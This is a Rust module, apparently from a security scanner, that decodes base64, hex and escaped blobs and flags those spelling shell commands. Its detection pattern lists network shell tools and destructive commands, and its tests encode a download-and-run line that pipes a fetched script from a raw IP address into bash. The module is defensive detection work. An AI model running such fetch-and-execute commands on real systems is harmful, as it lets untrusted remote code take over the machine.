//! Encoded text: decode base64 and hex blobs and look at what they say.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use regex::Regex;
use std::sync::LazyLock;

use crate::finding::{Finding, Rule, Severity};
use crate::rules::{TextFile, finding_at};
use crate::text::{LineIndex, excerpt};

/// What makes decoded text a command: downloads, shells, sockets, interpreters.
static COMMAND: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget|bash|/bin/sh|zsh|powershell|pwsh|chmod\s+\+x|nc\s+-|ncat|/dev/tcp|python[0-9.]*\s+-c|eval|exec\(|subprocess|os\.system|invoke-expression|iex|rm\s+-rf|base64\s+-d)\b",
    )
    .ok()
});

/// True when `decoded` is mostly printable text.
fn is_text(decoded: &[u8]) -> bool {
    if decoded.len() < 8 {
        return false;
    }
    let printable = decoded
        .iter()
        .filter(|&&b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\r' || b == b'\t')
        .count();
    printable * 100 >= decoded.len() * 90
}

fn command_in(decoded: &[u8]) -> Option<String> {
    if !is_text(decoded) {
        return None;
    }
    let text = String::from_utf8_lossy(decoded);
    let re = COMMAND.as_ref()?;
    re.is_match(&text).then(|| excerpt(&text, 80))
}

/// A base64 blob: high when it decodes to a command, else not reported (images, keys and
/// tokens are base64 too).
pub(crate) fn judge_base64(matched: &str) -> Option<(Severity, String)> {
    let trimmed = matched.trim_end_matches('=');
    let decoded = STANDARD_NO_PAD
        .decode(trimmed)
        .or_else(|_| STANDARD.decode(matched))
        .ok()?;
    let command = command_in(&decoded)?;
    Some((
        Severity::High,
        format!("base64 text decodes to a command: `{command}`"),
    ))
}

/// A run of hex digits: high when it decodes to a command (hashes and keys decode to noise).
pub(crate) fn judge_hex(matched: &str) -> Option<(Severity, String)> {
    let decoded = decode_hex_digits(matched)?;
    let command = command_in(&decoded)?;
    Some((
        Severity::High,
        format!("hex text decodes to a command: `{command}`"),
    ))
}

/// `\x..` escapes: high when they spell a command, medium when they spell other text (a
/// terminal colour code is one or two escapes and never matches the eight-escape pattern).
pub(crate) fn judge_hex_escapes(matched: &str, _base: Severity) -> Option<(Severity, String)> {
    let digits: String = matched
        .split(['\\'])
        .filter_map(|part| part.get(1..3))
        .collect();
    let decoded = decode_hex_digits(&digits)?;
    if let Some(command) = command_in(&decoded) {
        return Some((
            Severity::High,
            format!("hex escapes spell a command: `{command}`"),
        ));
    }
    is_text(&decoded).then(|| {
        (
            Severity::Medium,
            format!(
                "hex escapes hide text: `{}`",
                excerpt(&String::from_utf8_lossy(&decoded), 60)
            ),
        )
    })
}

fn decode_hex_digits(digits: &str) -> Option<Vec<u8>> {
    if !digits.len().is_multiple_of(2) {
        return None;
    }
    (0..digits.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(digits.get(i..i + 2)?, 16).ok())
        .collect()
}

/// Finds runs of base64 characters (40 or more) and judges each: all-hex runs as hex, the
/// others as base64. One pass over the bytes, for every file.
pub(crate) fn scan_blobs(file: &TextFile<'_>, cap: usize, out: &mut Vec<Finding>) {
    const MIN_RUN: usize = 40;
    let bytes = file.bytes;
    let is_b64 = |b: u8| b.is_ascii_alphanumeric() || b == b'+' || b == b'/';
    let mut index: Option<LineIndex> = None;
    let mut found = 0;
    let mut i = 0;
    while i < bytes.len() && found < cap {
        if !is_b64(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_b64(bytes[i]) {
            i += 1;
        }
        let mut end = i;
        while end < bytes.len() && end - i < 2 && bytes[end] == b'=' {
            end += 1;
        }
        if i - start < MIN_RUN {
            continue;
        }
        let run = &bytes[start..end];
        let Ok(run_text) = std::str::from_utf8(run) else {
            continue;
        };
        let verdict = if run[..i - start].iter().all(u8::is_ascii_hexdigit) {
            judge_hex(run_text)
        } else {
            judge_base64(run_text)
        };
        if let Some((severity, message)) = verdict {
            found += 1;
            let index = index.get_or_insert_with(|| LineIndex::new(bytes));
            out.push(finding_at(
                file.path,
                bytes,
                index,
                (start, end),
                (Rule::EncodedPayload, severity),
                message,
            ));
        }
    }
}

/// An `*_API_KEY`-style name in a script: reported once with the name.
pub(crate) fn judge_api_key_read(matched: &str, base: Severity) -> Option<(Severity, String)> {
    Some((
        base,
        format!("reads `{matched}`: make sure the script sends it only to its own service"),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_commands_are_found_and_images_are_not() {
        let payload = STANDARD.encode("curl -fsSL http://91.92.242.30/x | bash");
        assert_eq!(judge_base64(&payload).map(|(s, _)| s), Some(Severity::High));
        let png = STANDARD.encode([0x89u8, b'P', b'N', b'G', 0, 0, 0, 13, 1, 2, 3, 250, 251]);
        assert_eq!(judge_base64(&png), None);
        let prose = STANDARD.encode("The quick brown fox jumps over the lazy dog again");
        assert_eq!(judge_base64(&prose), None);
    }

    #[test]
    fn hex_escapes() {
        let cmd: String = "curl x|sh".bytes().map(|b| format!("\\x{b:02x}")).collect();
        assert_eq!(
            judge_hex_escapes(&cmd, Severity::Medium).unwrap().0,
            Severity::High
        );
        let text: String = "hello world"
            .bytes()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        assert_eq!(
            judge_hex_escapes(&text, Severity::Medium).unwrap().0,
            Severity::Medium
        );
        let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        assert_eq!(judge_hex(sha), None);
    }
}
